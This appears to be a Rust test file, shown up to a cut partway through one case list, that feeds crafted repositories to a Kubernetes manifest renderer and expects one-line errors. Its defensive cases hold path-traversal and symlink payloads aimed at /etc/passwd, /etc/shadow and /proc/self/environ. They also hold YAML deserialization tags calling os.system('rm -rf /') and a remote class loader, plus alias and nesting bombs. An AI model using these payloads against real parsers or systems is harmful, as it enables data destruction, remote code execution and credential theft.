//! Hostile repositories: crafted inputs that must each end in one exact one-line error naming the
//! file at fault, without a panic, without reading a byte outside the checkout, and without
//! unbounded work (every case stops at a limit of the code: a parser budget, a file size, a file
//! count, a nesting depth, a cycle check; none relies on a timeout).
//!
//! Cases are generated in code. A case is rendered from a [`MemoryTree`] (what the controller
//! renders, the files of a Git commit) unless it needs symbolic links or special files, which
//! only a directory on disk ([`LocalDir`]) holds; there the checkout is `root/` and a sibling
//! `outside/` holds files whose content must never show up.

use std::borrow::Cow;
use std::path::{Path, PathBuf};
use std::sync::Mutex;

use driftless_render::{
    EntryKind, FileTree, Kustomize, LocalDir, MemoryTree, Plain, PlainOptions, Renderers, TreeError,
};

/// Written into every file outside the checkout: an error or a manifest showing it means a byte
/// was read from outside.
const OUTSIDE_MARKER: &str = "outside-the-checkout-7f3a";

/// Which renderers a case goes through.
#[derive(Clone, Copy)]
enum Render {
    /// Kustomize first, then plain files (what the controller and the CLI use).
    Both,
    /// Plain files, recursively.
    Recursive,
}

/// Where a case's files live.
#[derive(Clone, Copy, PartialEq)]
enum Place {
    Memory,
    Disk,
}

/// One hostile input.
struct Case {
    name: String,
    files: Vec<(String, Vec<u8>)>,
    /// Symbolic links (path, target): disk only.
    links: Vec<(String, String)>,
    /// Named pipes: disk only.
    fifos: Vec<String>,
    /// Sparse files of this size: disk only.
    sparse: Vec<(String, u64)>,
    place: Place,
    render: Render,
    dir: String,
    /// The file the error must name.
    names: String,
}

impl Case {
    fn new(name: &str, dir: &str, names: &str) -> Self {
        Self {
            name: name.to_owned(),
            files: Vec::new(),
            links: Vec::new(),
            fifos: Vec::new(),
            sparse: Vec::new(),
            place: Place::Memory,
            render: Render::Both,
            dir: dir.to_owned(),
            names: names.to_owned(),
        }
    }

    fn file(mut self, path: &str, content: impl Into<Vec<u8>>) -> Self {
        self.files.push((path.to_owned(), content.into()));
        self
    }

    fn link(mut self, path: &str, target: &str) -> Self {
        self.links.push((path.to_owned(), target.to_owned()));
        self.place = Place::Disk;
        self
    }

    fn fifo(mut self, path: &str) -> Self {
        self.fifos.push(path.to_owned());
        self.place = Place::Disk;
        self
    }

    fn sparse(mut self, path: &str, size: u64) -> Self {
        self.sparse.push((path.to_owned(), size));
        self.place = Place::Disk;
        self
    }

    fn disk(mut self) -> Self {
        self.place = Place::Disk;
        self
    }

    fn recursive(mut self) -> Self {
        self.render = Render::Recursive;
        self
    }
}

/// A ConfigMap manifest.
fn cm(name: &str) -> String {
    format!("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {name}\n")
}

/// A kustomization file with `body`.
fn k(body: &str) -> String {
    format!("apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n{body}")
}

/// Records the paths read, to check that each one read lies inside the checkout.
struct Recording<T> {
    inner: T,
    root: PathBuf,
    read: Mutex<Vec<String>>,
}

impl<T: FileTree> FileTree for Recording<T> {
    fn kind(&self, path: &str) -> Option<EntryKind> {
        self.inner.kind(path)
    }

    fn read_dir(&self, dir: &str) -> Result<Vec<String>, TreeError> {
        self.inner.read_dir(dir)
    }

    fn read_file(&self, path: &str) -> Result<Cow<'_, [u8]>, TreeError> {
        let bytes = self.inner.read_file(path)?;
        if let Ok(mut read) = self.read.lock() {
            read.push(path.to_owned());
        }
        Ok(bytes)
    }
}

impl<T> Recording<T> {
    /// Paths read whose real location is outside the checkout.
    fn outside(&self) -> Vec<String> {
        let Ok(read) = self.read.lock() else {
            return vec!["<lock poisoned>".to_owned()];
        };
        read.iter()
            .filter(|p| {
                !self
                    .root
                    .join(p)
                    .canonicalize()
                    .is_ok_and(|real| real.starts_with(&self.root))
            })
            .cloned()
            .collect()
    }
}

fn renderers(render: Render) -> Result<Renderers, Box<dyn std::error::Error>> {
    Ok(match render {
        Render::Both => Renderers::new(vec![
            Box::new(Kustomize::new()),
            Box::new(Plain::new(&PlainOptions::default())?),
        ]),
        Render::Recursive => Renderers::new(vec![Box::new(Plain::new(&PlainOptions {
            recursive: true,
            ..PlainOptions::default()
        })?)]),
    })
}

/// The error as people see it: every cause, on one line.
fn one_line(err: &dyn std::error::Error) -> String {
    let mut text = err.to_string();
    let mut cause = err.source();
    while let Some(c) = cause {
        text = format!("{text}: {c}");
        cause = c.source();
    }
    text
}

/// Renders a case; the error text, or what was rendered, and the paths read outside.
fn run(case: &Case) -> Result<(String, Vec<String>), Box<dyn std::error::Error>> {
    let renderers = renderers(case.render)?;
    let outcome = |result: Result<Vec<driftless_resource::Manifest>, _>| match result {
        Ok(manifests) => format!("rendered {} manifests", manifests.len()),
        Err(err) => one_line(&err),
    };
    if case.place == Place::Memory {
        let mut tree = MemoryTree::default();
        for (path, content) in &case.files {
            tree.insert(path.clone(), content.clone());
        }
        return Ok((outcome(renderers.render(&tree, &case.dir)), Vec::new()));
    }
    let tmp = tempfile::tempdir()?;
    let root = tmp.path().join("root");
    let outside = tmp.path().join("outside");
    std::fs::create_dir_all(&root)?;
    std::fs::create_dir_all(outside.join("base"))?;
    let secret = format!("{}data: {{marker: {OUTSIDE_MARKER}}}\n", cm("secret"));
    std::fs::write(outside.join("secret.yaml"), &secret)?;
    std::fs::write(outside.join("base/cm.yaml"), &secret)?;
    std::fs::write(
        outside.join("base/kustomization.yaml"),
        k("resources: [cm.yaml]\n"),
    )?;
    let parent = |p: &Path| -> std::io::Result<()> {
        match p.parent() {
            Some(dir) => std::fs::create_dir_all(dir),
            None => Ok(()),
        }
    };
    for (path, content) in &case.files {
        let full = root.join(path);
        parent(&full)?;
        std::fs::write(full, content)?;
    }
    for (path, target) in &case.links {
        let full = root.join(path);
        parent(&full)?;
        let target = target.replace("$OUTSIDE", &outside.display().to_string());
        std::os::unix::fs::symlink(target, full)?;
    }
    for path in &case.fifos {
        let full = root.join(path);
        parent(&full)?;
        let status = std::process::Command::new("mkfifo").arg(&full).status()?;
        if !status.success() {
            return Err(format!("mkfifo {}", full.display()).into());
        }
    }
    for (path, size) in &case.sparse {
        let full = root.join(path);
        parent(&full)?;
        std::fs::File::create(full)?.set_len(*size)?;
    }
    let tree = Recording {
        inner: LocalDir::new(&root)?,
        root: root.canonicalize()?,
        read: Mutex::new(Vec::new()),
    };
    let text = outcome(renderers.render(&tree, &case.dir));
    let text = text.replace(&outside.display().to_string(), "$OUTSIDE");
    Ok((text, tree.outside()))
}

/// The expected outcome of every case, by name: `name<TAB>error` lines in `tests/hostile.txt`.
fn expected() -> Result<std::collections::BTreeMap<String, String>, Box<dyn std::error::Error>> {
    let text =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/hostile.txt"))?;
    Ok(text
        .lines()
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .filter_map(|l| l.split_once('\t'))
        .map(|(name, error)| (name.to_owned(), error.to_owned()))
        .collect())
}

#[test]
fn hostile_repositories_are_refused_with_one_line_errors() -> Result<(), Box<dyn std::error::Error>>
{
    let cases = cases();
    let expected = expected()?;
    let mut record = String::new();
    let mut failures = Vec::new();
    let mut names = std::collections::BTreeSet::new();
    for case in &cases {
        if !names.insert(case.name.clone()) {
            failures.push(format!("{}: case name used twice", case.name));
        }
        let started = std::time::Instant::now();
        let (actual, outside) = run(case)?;
        if std::env::var_os("HOSTILE_TRACE").is_some() {
            eprintln!("{} ({:?})", case.name, started.elapsed());
        }
        record.push_str(&format!("{}\t{actual}\n", case.name));
        let mut problems = Vec::new();
        let want = expected
            .get(&case.name)
            .map_or("<no expected outcome>", String::as_str);
        if actual != want {
            problems.push(format!("expected: {want}\n    actual:   {actual}"));
        }
        if actual.contains('\n') {
            problems.push("the error is not one line".to_owned());
        }
        // A case whose right outcome is a render (a YAML tag kubectl ignores too, leaving an
        // inert value) names no file.
        if !actual.starts_with("rendered ") && !actual.contains(&case.names) {
            problems.push(format!("the error does not name {}", case.names));
        }
        if actual.contains(OUTSIDE_MARKER) || !outside.is_empty() {
            problems.push(format!("read outside the checkout: {outside:?}"));
        }
        if !problems.is_empty() {
            failures.push(format!("{}:\n    {}", case.name, problems.join("\n    ")));
        }
    }
    if let Some(out) = std::env::var_os("HOSTILE_RECORD") {
        std::fs::write(out, record)?;
    }
    let handled = cases.len() - failures.len();
    println!("hostile repositories: {handled}/{} handled", cases.len());
    assert!(cases.len() >= 100, "only {} cases", cases.len());
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    Ok(())
}

fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    cases.extend(escapes());
    cases.extend(kustomize_escapes());
    cases.extend(bombs());
    cases.extend(bytes());
    cases.extend(tags());
    cases.extend(keys_and_numbers());
    cases.extend(loops_and_remotes());
    cases.extend(malformed_kustomizations());
    cases
}

/// Paths and links that leave the checkout, with the plain renderer.
fn escapes() -> Vec<Case> {
    let c = |name: &str, dir: &str, names: &str| Case::new(name, dir, names);
    vec![
        c("link-absolute-etc-passwd", "", "passwd.yaml")
            .file("a.yaml", cm("a"))
            .link("passwd.yaml", "/etc/passwd"),
        c("link-relative-outside", "", "x.yaml")
            .file("a.yaml", cm("a"))
            .link("x.yaml", "../outside/secret.yaml"),
        c("link-absolute-outside", "", "x.yml").link("x.yml", "$OUTSIDE/secret.yaml"),
        c("link-json-outside", "", "x.json").link("x.json", "$OUTSIDE/secret.yaml"),
        c("link-nested-relative", "app", "app/x.yaml")
            .file("app/a.yaml", cm("a"))
            .link("app/x.yaml", "../../outside/secret.yaml"),
        c("link-chain-leaves", "", "a.yaml")
            .link("a.yaml", "b.yaml")
            .link("b.yaml", "c.yaml")
            .link("c.yaml", "../outside/secret.yaml"),
        c("link-dir-outside-named-yaml", "", "conf.yaml").link("conf.yaml", "$OUTSIDE/base"),
        c("link-dir-outside-recursive", "", "sub/x.yaml")
            .recursive()
            .file("sub/a.yaml", cm("a"))
            .link("sub/x.yaml", "$OUTSIDE/secret.yaml"),
        c("link-to-dev-zero", "", "zero.yaml").link("zero.yaml", "/dev/zero"),
        c("link-to-proc", "", "version.yaml").link("version.yaml", "/proc/version"),
        c("link-loop", "", "a.yaml")
            .link("a.yaml", "b.yaml")
            .link("b.yaml", "a.yaml"),
        c("link-self", "", "self.yaml").link("self.yaml", "self.yaml"),
        c("link-dangling", "", "gone.yaml").link("gone.yaml", "missing.yaml"),
        c("fifo-manifest", "", "pipe.yaml")
            .file("a.yaml", cm("a"))
            .fifo("pipe.yaml"),
        c("sparse-huge-file", "", "huge.yaml").sparse("huge.yaml", 17 * 1024 * 1024),
        c("render-path-is-link-outside", "app", "app").link("app", "$OUTSIDE"),
        c("render-path-dot-dot", "../outside", "../outside").file("a.yaml", cm("a")),
    ]
}

/// Paths and links that leave the checkout through kustomization fields.
fn kustomize_escapes() -> Vec<Case> {
    let c = |name: &str, names: &str, body: &str| {
        Case::new(name, "app", names).file("app/kustomization.yaml", k(body))
    };
    let mut cases = vec![
        c("resources-dot-dot-above-root", "app/kustomization.yaml", "resources: [../../outside/secret.yaml]\n"),
        c("resources-absolute-etc", "app/kustomization.yaml", "resources: [/etc/passwd]\n"),
        c("resources-absolute-dir", "app/kustomization.yaml", "resources: [/etc]\n"),
        c("resources-many-dot-dots", "app/kustomization.yaml", "resources: [../../../../../../../../etc/passwd]\n"),
        c("bases-dot-dot-above-root", "app/kustomization.yaml", "bases: [../../outside/base]\n"),
        c("components-above-root", "app/kustomization.yaml", "components: [../../outside/base]\n"),
        c("components-absolute", "app/kustomization.yaml", "components: [/etc]\n"),
        c("crds-above-root", "app/kustomization.yaml", "crds: [../../outside/secret.yaml]\n"),
        c("crds-sibling-outside-kustomization-root", "app/kustomization.yaml", "crds: [../other/crd.yaml]\n")
            .file("other/crd.yaml", "kind: CustomResourceDefinition\n"),
        c("configurations-above-root", "app/kustomization.yaml", "configurations: [../../outside/secret.yaml]\n"),
        c("configurations-absolute", "app/kustomization.yaml", "configurations: [/etc/passwd]\n"),
        c("patches-path-above-root", "app/kustomization.yaml", "resources: [cm.yaml]\npatches:\n- path: ../../outside/secret.yaml\n")
            .file("app/cm.yaml", cm("a")),
        c("patches-path-sibling", "app/kustomization.yaml", "resources: [cm.yaml]\npatches:\n- path: ../other/p.yaml\n")
            .file("app/cm.yaml", cm("a"))
            .file("other/p.yaml", cm("a")),
        c("patches-strategic-merge-above-root", "app/kustomization.yaml", "resources: [cm.yaml]\npatchesStrategicMerge: [../../outside/secret.yaml]\n")
            .file("app/cm.yaml", cm("a")),
        c("patches-json6902-above-root", "app/kustomization.yaml", "resources: [cm.yaml]\npatchesJson6902:\n- path: ../../etc/passwd\n  target: {version: v1, kind: ConfigMap, name: a}\n")
            .file("app/cm.yaml", cm("a")),
        c("generator-files-above-root", "app/kustomization.yaml", "configMapGenerator:\n- name: g\n  files: [../../outside/secret.yaml]\n"),
        c("generator-files-absolute", "app/kustomization.yaml", "configMapGenerator:\n- name: g\n  files: [/etc/passwd]\n"),
        c("generator-files-keyed-absolute", "app/kustomization.yaml", "secretGenerator:\n- name: g\n  files: [k=/etc/shadow]\n"),
        c("generator-files-sibling", "app/kustomization.yaml", "configMapGenerator:\n- name: g\n  files: [../other/data.txt]\n")
            .file("other/data.txt", "x"),
        c("generator-envs-above-root", "app/kustomization.yaml", "configMapGenerator:\n- name: g\n  envs: [../../outside/secret.env]\n"),
        c("generator-env-absolute", "app/kustomization.yaml", "secretGenerator:\n- name: g\n  env: /proc/self/environ\n"),
        c("openapi-path-above-root", "app/kustomization.yaml", "openapi: {path: ../../etc/passwd}\n"),
        c("replacements-path-above-root", "app/kustomization.yaml", "replacements:\n- path: ../../outside/secret.yaml\n"),
        c("transformers-above-root", "app/kustomization.yaml", "transformers: [../../outside/secret.yaml]\n"),
        c("generators-above-root", "app/kustomization.yaml", "generators: [../../outside/secret.yaml]\n"),
    ];
    // On disk: links inside the checkout that point out of it.
    let d = |name: &str, names: &str, body: &str| c(name, names, body).disk();
    cases.extend([
        d(
            "resources-link-file-outside",
            "app/x.yaml",
            "resources: [x.yaml]\n",
        )
        .link("app/x.yaml", "$OUTSIDE/secret.yaml"),
        d(
            "resources-link-dir-outside",
            "app/base",
            "resources: [base]\n",
        )
        .link("app/base", "$OUTSIDE/base"),
        d(
            "resources-link-dir-outside-relative",
            "app/base",
            "resources: [base]\n",
        )
        .link("app/base", "../../outside/base"),
        d(
            "components-link-outside",
            "app/comp",
            "components: [comp]\n",
        )
        .link("app/comp", "$OUTSIDE/base"),
        d(
            "generator-files-link-outside",
            "app/data.txt",
            "configMapGenerator:\n- name: g\n  files: [data.txt]\n",
        )
        .link("app/data.txt", "$OUTSIDE/secret.yaml"),
        d(
            "generator-envs-link-outside",
            "app/a.env",
            "configMapGenerator:\n- name: g\n  envs: [a.env]\n",
        )
        .link("app/a.env", "$OUTSIDE/secret.yaml"),
        d(
            "patches-link-outside",
            "app/p.yaml",
            "resources: [cm.yaml]\npatches:\n- path: p.yaml\n",
        )
        .file("app/cm.yaml", cm("secret"))
        .link("app/p.yaml", "$OUTSIDE/secret.yaml"),
        d("crds-link-outside", "app/crd.yaml", "crds: [crd.yaml]\n")
            .link("app/crd.yaml", "$OUTSIDE/secret.yaml"),
        d(
            "configurations-link-outside",
            "app/c.yaml",
            "configurations: [c.yaml]\n",
        )
        .link("app/c.yaml", "$OUTSIDE/secret.yaml"),
        Case::new(
            "kustomization-file-link-outside",
            "app",
            "app/kustomization.yml",
        )
        .link("app/kustomization.yml", "$OUTSIDE/base/kustomization.yaml"),
        d(
            "generator-files-fifo",
            "app/pipe",
            "configMapGenerator:\n- name: g\n  files: [pipe]\n",
        )
        .fifo("app/pipe"),
        d(
            "generator-files-sparse-huge",
            "app/huge.bin",
            "secretGenerator:\n- name: g\n  files: [huge.bin]\n",
        )
        .sparse("app/huge.bin", 17 * 1024 * 1024),
    ]);
    cases
}

/// Alias, merge-key, nesting and size bombs.
fn bombs() -> Vec<Case> {
    let laughs = |levels: usize| {
        let mut text = String::from(
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: lol}\nx:\n  l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n",
        );
        for i in 1..levels {
            let p = i - 1;
            text.push_str(&format!(
                "  l{i}: &l{i} [*l{p}, *l{p}, *l{p}, *l{p}, *l{p}, *l{p}, *l{p}, *l{p}, *l{p}, *l{p}]\n"
            ));
        }
        text
    };
    let merge_bomb = {
        let mut text = String::from(
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: m}\nx:\n  m0: &m0 {a: 1, b: 2, c: 3, d: 4}\n",
        );
        for i in 1..30 {
            let p = i - 1;
            text.push_str(&format!(
                "  m{i}: &m{i} {{<<: *m{p}, k{i}: *m{p}, j{i}: *m{p}}}\n"
            ));
        }
        text
    };
    let nested = |depth: usize, open: &str, close: &str| {
        format!(
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: n}}\ndata: {}{}\n",
            open.repeat(depth),
            close.repeat(depth)
        )
    };
    let block_nested = |depth: usize| {
        let mut text = String::from("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: n}\nx:\n");
        for i in 0..depth {
            text.push_str(&format!("{}k{i}:\n", "  ".repeat(i + 1)));
        }
        text
    };
    let fat = {
        let big = "x".repeat(1 << 20);
        let aliases = vec!["*a"; 100].join(", ");
        format!(
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: c}}\nx: &a \"{big}\"\ny: [{aliases}]\n"
        )
    };
    let many_docs: String = (0..1100)
        .map(|i| format!("---\n{}", cm(&format!("d{i}"))))
        .collect();
    let empty_docs = "---\n".repeat(200_000);
    let many_nodes: String = format!(
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: n}}\ndata: [{}]\n",
        vec!["1"; 300_000].join(",")
    );
    let many_anchors: String = format!(
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: n}}\ndata: [{}]\n",
        (0..60_000)
            .map(|i| format!("&a{i} 1"))
            .collect::<Vec<_>>()
            .join(",")
    );
    let long_key = format!(
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: n}}\n{}: 1\n",
        "k".repeat(5000)
    );
    let c = |name: &str, names: &str| Case::new(name, "", names);
    let kz = |name: &str, names: &str| {
        Case::new(name, "app", names).file("app/kustomization.yaml", k("resources: [r.yaml]\n"))
    };
    let huge = format!(
        "{}data:\n  big: \"{}\"\n",
        cm("huge"),
        "x".repeat(17 * 1024 * 1024)
    );
    vec![
        c("billion-laughs", "lol.yaml").file("lol.yaml", laughs(9)),
        c("merge-key-bomb", "m.yaml").file("m.yaml", merge_bomb.clone()),
        c("fat-scalar-aliases", "fat.yaml").file("fat.yaml", fat.clone()),
        c("deep-flow-sequences", "deep.yaml").file("deep.yaml", nested(10_000, "[", "]")),
        c("deep-flow-mappings", "deep.yaml").file("deep.yaml", nested(10_000, "{a: ", "}")),
        c("deep-block-mappings", "deep.yaml").file("deep.yaml", block_nested(200)),
        c("deep-json", "deep.json").file("deep.json", format!("{{\"apiVersion\": \"v1\", \"kind\": \"ConfigMap\", \"metadata\": {{\"name\": \"j\"}}, \"data\": {}{}}}", "[".repeat(5000), "]".repeat(5000))),
        c("many-documents", "docs.yaml").file("docs.yaml", many_docs.clone()),
        c("many-empty-documents", "docs.yaml").file("docs.yaml", empty_docs.clone()),
        c("many-nodes", "n.yaml").file("n.yaml", many_nodes.clone()),
        c("many-anchors", "n.yaml").file("n.yaml", many_anchors.clone()),
        c("long-simple-key", "n.yaml").file("n.yaml", long_key.clone()),
        c("huge-file-on-disk", "huge.yaml").disk().file("huge.yaml", huge),
        kz("kustomize-billion-laughs", "app/r.yaml").file("app/r.yaml", laughs(9)),
        kz("kustomize-merge-key-bomb", "app/r.yaml").file("app/r.yaml", merge_bomb),
        kz("kustomize-fat-scalar-aliases", "app/r.yaml").file("app/r.yaml", fat),
        kz("kustomize-deep-nesting", "app/r.yaml").file("app/r.yaml", nested(10_000, "[", "]")),
        kz("kustomize-many-documents", "app/r.yaml").file("app/r.yaml", many_docs),
        kz("kustomize-many-empty-documents", "app/r.yaml").file("app/r.yaml", empty_docs),
        kz("kustomize-many-nodes", "app/r.yaml").file("app/r.yaml", many_nodes),
        Case::new("kustomization-alias-bomb", "app", "app/kustomization.yaml")
            .file("app/kustomization.yaml", laughs(9).replace("apiVersion: v1\nkind: ConfigMap\n", "").replace("metadata: {name: lol}\nx:", "commonAnnotations:")),
        Case::new("kustomization-deep-nesting", "app", "app/kustomization.yaml")
            .file("app/kustomization.yaml", format!("resources: {}{}\n", "[".repeat(5000), "]".repeat(5000))),
        Case::new("patch-alias-bomb", "app", "app/p.yaml")
            .file("app/kustomization.yaml", k("resources: [cm.yaml]\npatches:\n- path: p.yaml\n"))
            .file("app/cm.yaml", cm("lol"))
            .file("app/p.yaml", laughs(9)),
        Case::new("inline-patch-deep-nesting", "app", "app/kustomization.yaml")
            .file("app/kustomization.yaml", k(&format!("resources: [cm.yaml]\npatches:\n- patch: '{}'\n", nested(10_000, "[", "]").replace('\n', " "))))
            .file("app/cm.yaml", cm("lol")),
    ]
}

/// Bytes that are not text.
fn bytes() -> Vec<Case> {
    let c = |name: &str, names: &str| Case::new(name, "", names);
    let kz = |name: &str, names: &str| {
        Case::new(name, "app", names).file("app/kustomization.yaml", k("resources: [r.yaml]\n"))
    };
    let mut nul = cm("nul").into_bytes();
    nul.extend_from_slice(b"data:\n  k: \"a\0b\"\n");
    let mut raw_nul = cm("nul").into_bytes();
    raw_nul.extend_from_slice(b"data:\n  k: a\0b\n");
    let mut bad_utf8 = cm("bad").into_bytes();
    bad_utf8.extend_from_slice(b"data:\n  k: \xff\xfe\n");
    let mut overlong = cm("bad").into_bytes();
    overlong.extend_from_slice(b"data:\n  k: \xc0\xaf\n");
    let mut surrogate = cm("bad").into_bytes();
    surrogate.extend_from_slice(b"data:\n  k: \xed\xa0\x80\n");
    let utf16: Vec<u8> = "\u{feff}apiVersion: v1\nkind: ConfigMap\n"
        .encode_utf16()
        .flat_map(|u| u.to_le_bytes())
        .collect();
    let binary: Vec<u8> = (0..=255u8).cycle().take(4096).collect();
    vec![
        c("nul-in-quoted-scalar", "nul.yaml").file("nul.yaml", nul.clone()),
        c("nul-in-plain-scalar", "nul.yaml").file("nul.yaml", raw_nul.clone()),
        c("nul-only-file", "z.yaml").file("z.yaml", vec![0u8; 64]),
        c("invalid-utf8", "bad.yaml").file("bad.yaml", bad_utf8.clone()),
        c("overlong-utf8", "bad.yaml").file("bad.yaml", overlong.clone()),
        c("surrogate-utf8", "bad.yaml").file("bad.yaml", surrogate),
        c("utf16-file", "u.yaml").file("u.yaml", utf16.clone()),
        c("binary-file", "b.yaml").file("b.yaml", binary.clone()),
        c("control-characters", "cc.yaml").file(
            "cc.yaml",
            format!("{}data: {{k: \"\u{7}\u{1b}[2J\"}}\n\u{1b}[2J\n", cm("cc")),
        ),
        kz("kustomize-nul-in-plain-scalar", "app/r.yaml").file("app/r.yaml", raw_nul),
        kz("kustomize-invalid-utf8", "app/r.yaml").file("app/r.yaml", bad_utf8.clone()),
        kz("kustomize-overlong-utf8", "app/r.yaml").file("app/r.yaml", overlong),
        kz("kustomize-utf16", "app/r.yaml").file("app/r.yaml", utf16.clone()),
        kz("kustomize-binary", "app/r.yaml").file("app/r.yaml", binary.clone()),
        Case::new(
            "kustomization-invalid-utf8",
            "app",
            "app/kustomization.yaml",
        )
        .file("app/kustomization.yaml", b"resources: [\xff]\n".to_vec()),
        Case::new("kustomization-nul", "app", "app/kustomization.yaml").file(
            "app/kustomization.yaml",
            b"resources: [a\0.yaml]\n".to_vec(),
        ),
        Case::new("kustomization-utf16", "app", "app/kustomization.yaml")
            .file("app/kustomization.yaml", utf16),
        Case::new("env-file-invalid-utf8", "app", "app/a.env")
            .file(
                "app/kustomization.yaml",
                k("configMapGenerator:\n- name: g\n  envs: [a.env]\n"),
            )
            .file("app/a.env", b"K=\xff\xfe\n".to_vec()),
        Case::new("patch-invalid-utf8", "app", "app/p.yaml")
            .file(
                "app/kustomization.yaml",
                k("resources: [cm.yaml]\npatches:\n- path: p.yaml\n"),
            )
            .file("app/cm.yaml", cm("a"))
            .file("app/p.yaml", bad_utf8),
        Case::new("patch-binary", "app", "app/p.yaml")
            .file(
                "app/kustomization.yaml",
                k("resources: [cm.yaml]\npatchesStrategicMerge: [p.yaml]\n"),
            )
            .file("app/cm.yaml", cm("a"))
            .file("app/p.yaml", binary),
    ]
}

/// YAML tags.
fn tags() -> Vec<Case> {
    let with = |extra: &str| format!("{}data:\n{extra}", cm("t"));
    let c = |name: &str, extra: &str| Case::new(name, "", "t.yaml").file("t.yaml", with(extra));
    let kz = |name: &str, extra: &str| {
        Case::new(name, "app", "app/r.yaml")
            .file("app/kustomization.yaml", k("resources: [r.yaml]\n"))
            .file("app/r.yaml", with(extra))
    };
    vec![
        c(
            "tag-python-object",
            "  k: !!python/object:os.system [\"rm -rf /\"]\n",
        ),
        c(
            "tag-python-apply",
            "  k: !!python/object/apply:subprocess.check_output [[id]]\n",
        ),
        c(
            "tag-ruby-object",
            "  k: !ruby/object:Gem::Installer {i: x}\n",
        ),
        c(
            "tag-java-class",
            "  k: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.com\"]]]]\n",
        ),
        c("tag-binary-invalid", "  k: !!binary \"not base64!!\"\n"),
        c("tag-binary-huge-invalid", "  k: !!binary |\n    ====\n"),
        c("tag-include", "  k: !include /etc/passwd\n"),
        c("tag-custom-local", "  k: !vault secret/data/x\n"),
        c("tag-int-on-string", "  k: !!int abc\n"),
        c("tag-float-on-string", "  k: !!float abc\n"),
        c("tag-bool-on-string", "  k: !!bool maybe\n"),
        c("tag-null-on-string", "  k: !!null x\n"),
        c("tag-map-on-sequence", "  k: !!map [a, b]\n"),
        c("tag-seq-on-mapping", "  k: !!seq {a: b}\n"),
        c("tag-set", "  k: !!set {a, b}\n"),
        c("tag-omap", "  k: !!omap [a: 1, b: 2]\n"),
        c("tag-timestamp-invalid", "  k: !!timestamp yesterday\n"),
        c(
            "tag-verbatim",
            "  k: !<tag:yaml.org,2002:python/object> x\n",
        ),
        c("tag-directive", "%TAG !e! tag:evil.example,2000:\n---\n"),
        c("tag-on-key", "  !!python/object:x k: v\n"),
        kz(
            "kustomize-tag-python-object",
            "  k: !!python/object:os.system [\"id\"]\n",
        ),
        kz(
            "kustomize-tag-binary-invalid",
            "  k: !!binary \"not base64!!\"\n",
        ),
        kz("kustomize-tag-include", "  k: !include /etc/passwd\n"),
        kz("kustomize-tag-int-on-string", "  k: !!int abc\n"),
        kz("kustomize-tag-map-on-sequence", "  k: !!map [a, b]\n"),
        Case::new("kustomization-tag-include", "app", "app/kustomization.yaml").file(
            "app/kustomization.yaml",
            "resources: !include /etc/passwd\n",
        ),
        Case::new("kustomization-tag-python", "app", "app/kustomization.yaml").file(
            "app/kustomization.yaml",
            "namePrefix: !!python/object:os.system [id]\n",
        ),
    ]
}

/// Duplicate keys and giant numbers.
fn keys_and_numbers() -> Vec<Case> {
    let c = |name: &str, names: &str| Case::new(name, "", names);
    let kz = |name: &str, names: &str| {
        Case::new(name, "app", names).file("app/kustomization.yaml", k("resources: [r.yaml]\n"))
    };
    let giant = format!("{}data:\n  n: {}\n", cm("g"), "9".repeat(100_000));
    vec![
        c("duplicate-top-level-key", "d.yaml").file("d.yaml", format!("{}kind: Secret\n", cm("d"))),
        c("duplicate-nested-key", "d.yaml").file("d.yaml", format!("{}data:\n  a: 1\n  a: 2\n", cm("d"))),
        c("duplicate-key-flow", "d.yaml").file("d.yaml", format!("{}data: {{a: 1, a: 2}}\n", cm("d"))),
        c("duplicate-key-quoted", "d.yaml").file("d.yaml", format!("{}data: {{a: 1, \"a\": 2}}\n", cm("d"))),
        c("duplicate-key-json", "d.json").file("d.json", "{\"apiVersion\": \"v1\", \"kind\": \"ConfigMap\", \"kind\": \"Secret\", \"metadata\": {\"name\": \"d\"}}"),
        c("duplicate-integer-keys", "d.yaml").file("d.yaml", format!("{}data: {{0x10: a, 16: b}}\n", cm("d"))),
        c("merge-key-not-a-mapping", "d.yaml").file("d.yaml", format!("{}data: {{<<: 5}}\n", cm("d"))),
        c("alias-undefined", "d.yaml").file("d.yaml", format!("{}data: *nope\n", cm("d"))),
        c("giant-integer", "g.yaml").file("g.yaml", giant.clone()),
        c("giant-float-exponent", "g.yaml").file("g.yaml", format!("{}data:\n  n: 1e999999\n", cm("g"))),
        c("giant-negative", "g.yaml").file("g.yaml", format!("{}data:\n  n: -{}\n", cm("g"), "9".repeat(400))),
        c("giant-hex", "g.yaml").file("g.yaml", format!("{}data:\n  n: 0x{}\n", cm("g"), "f".repeat(400))),
        c("giant-octal", "g.yaml").file("g.yaml", format!("{}data:\n  n: 0o{}\n", cm("g"), "7".repeat(400))),
        c("nan-and-infinity", "g.yaml").file("g.yaml", format!("{}data:\n  n: .nan\n  i: -.inf\n", cm("g"))),
        c("giant-json-number", "g.json").file("g.json", format!("{{\"apiVersion\": \"v1\", \"kind\": \"ConfigMap\", \"metadata\": {{\"name\": \"g\"}}, \"n\": 1{}}}", "0".repeat(5000))),
        c("name-is-a-number", "n.yaml").file("n.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: 1e400}\n"),
        c("document-is-a-scalar", "s.yaml").file("s.yaml", "just a string\n"),
        c("document-is-a-sequence", "s.yaml").file("s.yaml", "- a\n- b\n"),
        c("list-items-not-a-sequence", "l.yaml").file("l.yaml", "apiVersion: v1\nkind: List\nitems: {a: b}\n"),
        kz("kustomize-duplicate-key", "app/r.yaml").file("app/r.yaml", format!("{}data:\n  a: 1\n  a: 2\n", cm("d"))),
        kz("kustomize-giant-integer", "app/r.yaml").file("app/r.yaml", giant),
